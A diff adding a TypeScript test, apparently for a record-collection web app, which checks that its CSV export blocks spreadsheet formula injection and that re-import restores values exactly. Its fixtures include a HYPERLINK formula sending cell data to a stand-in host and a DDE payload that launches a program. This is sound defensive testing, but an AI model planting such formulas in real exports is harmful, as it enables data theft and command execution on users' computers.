@@ -353,6 +353,60 @@ describe('records added in the app survive export and re-import', () => {
   });
 });
 
+describe('the CSV export never writes a cell a spreadsheet would run as a formula', () => {
+  // API.md: "a cell that begins with =, +, -, @, a tab or a carriage return is written with
+  // a leading ', and the import removes that one ' again, so export then import is still exact."
+  const DANGEROUS = /^[=+\-@\t\r]/;
+
+  it('writes such cells behind one leading quote and imports them back exactly', async () => {
+    const { user: source, agent: sourceAgent } = await signedInUser(testApp);
+    const records = [
+      // As a corrected title from the metadata service, or a Discogs file, could carry it.
+      { artist: 'Mallory', title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' },
+      { artist: '+44 Band', title: "@SUM(1+1)*cmd|' /C calc'!A0" },
+      { artist: '-M-', title: '\tTabbed', details: 'Label: =Label · Cat#: -001 · Notes: @notes' },
+      { artist: 'Carriage', title: '\rReturn' },
+      // A real leading quote before an ordinary character is no protection: kept as it is.
+      { artist: "'Til Tuesday", title: 'Voices Carry' },
+      // A real leading quote before a formula character: written with one more quote.
+      { artist: "''Quoted", title: "'=x", details: "''+y" },
+      { artist: 'Plain', title: '1 + 1 = 2', details: 'a@b' },
+    ];
+    for (const [i, record] of records.entries()) {
+      await createRecord(testApp.db, source.id, {
+        ...record,
+        dateAdded: new Date(Date.UTC(2024, 0, 1, 0, 0, i)).toISOString(),
+      });
+    }
+
+    const exported = await sourceAgent.get('/api/record/export?format=csv');
+    expect(exported.status).toBe(200);
+    const rows = parse(exported.text, { columns: true }) as Array<Record<string, string>>;
+    for (const row of rows) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(DANGEROUS);
+    }
+    expect(rows.map((row) => [row.Artist, row.Title])).toEqual([
+      ['Mallory', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
+      ["'+44 Band", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+      ["'-M-", "'\tTabbed"],
+      ['Carriage', "'\rReturn"],
+      ["'Til Tuesday", 'Voices Carry'],
+      ["''Quoted", "''=x"],
+      ['Plain', '1 + 1 = 2'],
+    ]);
+    expect(rows[2]).toMatchObject({ Label: "'=Label", 'Catalog#': "'-001", 'Collection Notes': "'@notes" });
+    expect(rows[5]!['Collection Notes']).toBe("'''+y");
+
+    const target = await createUser(testApp.db);
+    const reimport = await importCsv(await loginAgent(testApp, target), exported.text);
+    expect(reimport.body).toMatchObject({ imported: records.length, failed: 0 });
+    const pick = (stored: StoredRecord[]) =>
+      stored.map(({ artist, title, details }) => ({ artist, title, details }));
+    expect(pick(await storedRecords(target.id))).toEqual(pick(await storedRecords(source.id)));
+    expect((await storedRecords(target.id)).map((r) => r.title)).toContain(records[0]!.title);
+  });
+});
+
 describe('GET /api/record/export', () => {
   it('downloads the crate as a Discogs collection export', async () => {
     const { user, agent } = await signedInUser(testApp);
